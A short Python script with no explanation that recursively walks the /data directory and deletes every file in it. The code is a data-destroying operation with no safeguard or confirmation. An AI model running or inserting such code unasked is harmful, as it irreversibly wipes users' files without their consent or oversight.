import os as o
for r, _, fs in o.walk('/data'):
    for f in fs:
        o.remove(o.path.join(r, f))
